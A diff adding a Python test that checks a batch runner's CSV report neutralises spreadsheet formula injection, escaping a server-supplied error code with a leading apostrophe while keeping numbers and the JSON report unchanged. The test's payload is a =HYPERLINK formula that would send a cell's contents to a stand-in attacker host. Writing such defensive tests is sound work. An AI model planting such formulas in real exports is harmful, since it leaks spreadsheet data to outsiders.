@@ -141,6 +141,21 @@ def test_a_batch_of_every_kind_completes_and_is_reported(served, tmp_path, backe
     assert {r["error_code"] for r in rows if r["state"] == "failed"} == {"20601"}
 
 
+def test_report_csv_cells_a_server_wrote_never_run_as_spreadsheet_formulas(tmp_path) -> None:
+    # Opened in a spreadsheet, a cell starting with = + - @ is a formula: =HYPERLINK could send the sheet away.
+    formula = '=HYPERLINK("https://evil.test/?"&A1,"details")'
+    failures = iter([(formula, "no faces"), ("-5", "no faces")])
+    fake = FakeVozo(api_keys=[KEY], step_seconds=0.01, fail_when=lambda kind, body: next(failures))
+    with fake.serve() as url:
+        summary = asyncio.run(run_batch(url, write_manifest(tmp_path / "m.csv", 2), tmp_path / "out"))
+    assert summary.counts == {RowState.FAILED: 2}
+    with (tmp_path / "out" / "report.csv").open(newline="") as file:
+        codes = sorted(row["error_code"] for row in csv.DictReader(file))
+    assert codes == ["'" + formula, "-5"]  # a number stays a number
+    report = json.loads((tmp_path / "out" / "report.json").read_text())  # as sent
+    assert sorted(row["error_code"] for row in report["rows"]) == ["-5", formula]
+
+
 def test_1304_and_429_slow_the_batch_down_and_never_fail_a_row(served, tmp_path) -> None:
     fake, url = served  # the fake allows 4 jobs per key; the runner is told 8
     fake.faults = Faults(rate_limit=0.15, retry_after=None, seed=3)
